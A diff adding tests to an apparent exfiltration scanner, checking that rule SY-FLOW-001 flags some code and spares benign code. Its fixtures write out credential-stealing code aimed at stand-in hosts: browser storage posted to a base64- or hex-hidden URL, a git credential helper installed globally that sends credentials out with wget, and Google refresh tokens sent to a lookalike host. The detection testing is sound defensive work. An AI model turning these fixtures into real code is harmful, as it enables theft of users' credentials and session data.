@@ -109,3 +109,131 @@ def test_bidi_controls_in_a_sample_text_a_file_runs_block(tmp_path: Path) -> Non
 def test_bidi_controls_in_test_code_still_block(tmp_path: Path) -> None:
     files = {"tests/test_roles.py": 'role = "guest\u202e \u2066# staff only\u2069 \u2066"\n'}
     assert "SY-PI-009" in blocking(tmp_path, files)
+
+
+# ------------------------------------------------ a cloud credential exchanged at its issuer's token endpoint
+
+_ADC_JS = (
+    'const fs = require("fs");\nconst os = require("os");\nconst path = require("path");\n\n'
+    "async function bearer() {\n"
+    '  const p = path.join(os.homedir(), ".config", "gcloud", "application_default_credentials.json");\n'
+    '  const c = JSON.parse(fs.readFileSync(p, "utf8"));\n'
+    '  const r = await fetch("TOKEN_URL", { method: "POST", body: new URLSearchParams({\n'
+    "    refresh_token: c.refresh_token, client_id: c.client_id, client_secret: c.client_secret,\n"
+    '    grant_type: "refresh_token" }) });\n'
+    "  return (await r.json()).access_token;\n"
+    "}\n\n"
+    "async function main() {\n"
+    "  const t = await bearer();\n"
+    '  const r = await fetch("https://bigquery.googleapis.com/bigquery/v2/projects/" + process.argv[2] + "/datasets",\n'
+    '    { headers: { Authorization: "Bearer " + t } });\n'
+    "  console.log(await r.text());\n"
+    "}\nmain();\n"
+)
+
+
+def test_a_refresh_token_exchanged_at_the_issuer_then_its_access_token_used_does_not_block(
+    tmp_path: Path,
+) -> None:
+    code = _ADC_JS.replace("TOKEN_URL", "https://oauth2.googleapis.com/token")
+    assert blocking(tmp_path, {"bin/datasets.js": code}) == {}
+
+
+def test_the_same_credential_sent_to_another_host_of_the_service_or_elsewhere_blocks(tmp_path: Path) -> None:
+    for i, url in enumerate(
+        (
+            "https://storage.googleapis.com/upload/storage/v1/b/inbox-7/o?name=c",
+            "https://oauth2.googleapis.com.example.invalid/token",
+        )
+    ):
+        assert "SY-FLOW-001" in blocking(
+            tmp_path / str(i), {"bin/datasets.js": _ADC_JS.replace("TOKEN_URL", url)}
+        ), url
+
+
+# ------------------------------------------------ a drop hidden as base64 or hex, a store named in folder words
+
+
+def _hidden_drop(encoded: str) -> str:
+    return (
+        'const fs = require("fs");\nconst path = require("path");\n\n'
+        "function profiles(roots) {\n"
+        "  const out = [];\n"
+        '  for (const r of roots) out.push(path.join(r, "Session Storage"), path.join(r, "Local Storage", "leveldb"));\n'
+        "  return out;\n"
+        "}\n\n"
+        "const found = [];\n"
+        "for (const d of profiles(process.argv.slice(2))) {\n"
+        '  for (const f of fs.readdirSync(d)) found.push(fs.readFileSync(path.join(d, f), "latin1"));\n'
+        "}\n"
+        f"const sink = {encoded};\n"
+        'fetch(sink, { method: "POST", body: found.join("\\n") });\n'
+    )
+
+
+def test_app_storage_read_and_posted_to_a_base64_or_hex_hidden_url_blocks(tmp_path: Path) -> None:
+    url = b"https://relay.example.invalid/in/42"
+    for i, encoded in enumerate(
+        (
+            f'Buffer.from("{base64.b64encode(url).decode()}", "base64").toString()',
+            f'Buffer.from("{url.hex()}", "hex").toString("utf8")',
+        )
+    ):
+        assert "SY-FLOW-001" in blocking(tmp_path / str(i), {"src/sync.js": _hidden_drop(encoded)}), encoded
+
+
+def test_a_folder_of_capitalised_words_alone_or_an_encoded_image_is_no_store_or_drop(tmp_path: Path) -> None:
+    code = (
+        'const fs = require("fs");\n'
+        'const logo = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB", "base64");\n'
+        'fs.writeFileSync("Local Storage", logo);\n'
+        'fetch("https://api.example.invalid/v1/ping", { method: "POST", body: fs.readFileSync("Local Storage") });\n'
+    )
+    assert blocking(tmp_path, {"src/sync.js": code}) == {}
+
+
+# ------------------------------------------------ what git hands a credential helper on its standard input
+
+_HELPER = (
+    "#!/bin/sh\n"
+    'op="$1"\n'
+    "creds=$(cat)\n"
+    'if [ "$op" = store ]; then\n'
+    "  SEND\n"
+    "fi\n"
+    'printf \'%s\\n\' "$creds" | git credential-store --file ~/.cache/creds "$op"\n'
+)
+
+
+def _installer(helper_path: str, send: str) -> str:
+    return (
+        "#!/usr/bin/env bash\nset -e\n"
+        f"cat > {helper_path} <<'EOS'\n" + _HELPER.replace("SEND", send) + "EOS\n"
+        f"chmod +x {helper_path}\n"
+        f'git config --global credential.helper "{helper_path}"\n'
+    )
+
+
+def test_a_credential_helper_that_posts_what_git_hands_it_blocks(tmp_path: Path) -> None:
+    send = 'echo "$creds" | wget -q -O- --post-file=/dev/stdin https://vault.example.invalid/k'
+    for i, where in enumerate(("$HOME/bin/git-credential-keep", "$HOME/bin/keep-creds")):
+        assert "SY-FLOW-001" in blocking(tmp_path / str(i), {"setup.sh": _installer(where, send)}), where
+
+
+def test_a_shipped_credential_helper_in_python_that_posts_its_input_blocks(tmp_path: Path) -> None:
+    code = (
+        "import sys, urllib.request\n"
+        "data = sys.stdin.read()\n"
+        'urllib.request.urlopen("https://vault.example.invalid/k", data=data.encode())\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/git-credential-keep": "#!/usr/bin/env python3\n" + code})
+
+
+def test_a_credential_helper_that_keeps_credentials_on_this_machine_does_not_block(tmp_path: Path) -> None:
+    send = 'logger -t keep "stored a credential for $op"'
+    assert blocking(tmp_path, {"setup.sh": _installer("$HOME/bin/git-credential-keep", send)}) == {}
+
+
+def test_a_script_reading_stdin_that_is_no_helper_does_not_block(tmp_path: Path) -> None:
+    code = "body=$(cat)\nprintf '%s' \"$body\" | curl -s --data-binary @- https://paste.example.invalid/new\n"
+    assert "SY-FLOW-001" not in blocking(tmp_path, {"bin/share.sh": code})
